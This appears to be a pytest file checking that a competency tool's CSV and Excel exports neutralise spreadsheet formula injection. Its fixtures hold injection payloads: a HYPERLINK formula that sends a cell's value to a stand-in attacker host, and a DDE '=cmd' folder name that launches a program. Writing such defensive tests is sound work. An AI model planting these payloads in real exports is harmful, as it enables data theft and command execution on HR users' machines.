"""HR opens the results in a spreadsheet: no cell can be a formula, every text intact."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from competency.cli import main
from competency.framework.model import Framework
from competency.text import cell as inert
from tests.conftest import assessment_doc

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
    "Plain Name",
]


@pytest.fixture()
def hostile_team(tmp_path: Path, librarians: Framework, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Files whose names, ids and units are crafted to run as spreadsheet formulas.

    The folder's own name is one too, and the tests run from its parent, so every file
    path in the output starts with ``=``.
    """
    monkeypatch.chdir(tmp_path)
    folder = Path("=cmd|'calc'!A0")
    folder.mkdir()
    for i, name in enumerate(HOSTILE):
        doc = assessment_doc(librarians, {"emerging.1": 3, "emerging.2": 4})
        doc["subject"] = {"name": name, "id": f"-{i}", "unit": "@unit"}
        (folder / f"{i}.json").write_text(json.dumps(doc), encoding="utf-8")
    (folder / "9-broken.json").write_text("=1+1", encoding="utf-8")
    return folder


def test_csv_cells_are_inert(hostile_team: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["score", str(hostile_team), "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [row["name"] for row in rows[:-1]] == [inert(name) for name in HOSTILE]
    assert rows[0]["name"] == "'" + HOSTILE[0]
    assert rows[-2]["name"] == "Plain Name"
    for row in rows:
        for value in row.values():
            assert not value or not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert rows[-1]["ok"] == "false" and rows[-1]["file"].startswith("'=cmd")
    assert code == 1


def test_xlsx_has_no_formula_and_keeps_every_text(
    hostile_team: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path.resolve() / "levels.xlsx"
    code = main(
        ["score", str(hostile_team), "--format", "xlsx", "--output", str(target), "--jobs", "2"]
    )
    assert code == 1
    assert "9-broken.json" in capsys.readouterr().err
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["People", "Refused files", "Framework and rule"]
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
    people = book["People"]
    heads = [cell.value for cell in people[1]]
    assert heads[:8] == [
        "File",
        "Name",
        "Id",
        "Unit",
        "Status",
        "Completion",
        "Overall",
        "Overall (rank)",
    ]
    assert "Collection Management" in heads and "Collection Management (rank)" in heads
    # OOXML stores a carriage return as _x000D_, which Excel reads back as the character;
    # openpyxl leaves the escape in place, so undo it as Excel would.
    # String cells hold the text exactly: no apostrophe for Excel to show (issue 25).
    names = [unescape(row[1]) for row in people.iter_rows(min_row=2, values_only=True)]
    assert names == list(HOSTILE)
    for row in people.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type in ("s", "n"), f"People!{cell.coordinate} is not a string"
    first = next(people.iter_rows(min_row=2, max_row=2, values_only=True))
    assert first[2] == "-0" and first[3] == "@unit"
    assert first[5] == 0.05 and first[6] == "Emerging" and first[7] == 1
    assert people.freeze_panes == "C2"
    assert people.auto_filter.ref == f"A1:{people.cell(1, len(heads)).column_letter}8"
    assert people.column_dimensions["B"].width > 20
    refused = [row for row in book["Refused files"].iter_rows(values_only=True)]
    assert refused[0] == ("File", "Reason")
    assert refused[1][0] == str(hostile_team / "9-broken.json")
    assert "not valid JSON" in str(refused[1][1])
    about = {row[0]: row[1] for row in book["Framework and rule"].iter_rows(values_only=True)}
    assert about["Id"] == "25-4022.00"
    assert "Threshold: 3" in str(about["Scoring rule"])


def test_xlsx_of_ten_people_per_sheet_row(
    tmp_path: Path, librarians: Framework, capsys: pytest.CaptureFixture[str]
) -> None:
    for i in range(200):
        doc = assessment_doc(librarians, {"emerging.1": i % 5})
        doc["subject"]["name"] = f"P{i:03d}"
        (tmp_path / f"{i:03d}.json").write_text(json.dumps(doc))
    target = tmp_path / "out" / "team.xlsx"
    target.parent.mkdir()
    assert main(["score", str(tmp_path), "--format", "xlsx", "--output", str(target)]) == 0
    people = openpyxl.load_workbook(target, read_only=True)["People"]
    names = [row[1] for row in people.iter_rows(min_row=2, values_only=True)]
    assert names == [f"P{i:03d}" for i in range(200)]


def test_xlsx_needs_an_output_file(hostile_team: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["score", str(hostile_team), "--format", "xlsx"]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert (
        err == "competency: --format xlsx writes a workbook file: give one with "
        "--output FILE.xlsx\n"
    )
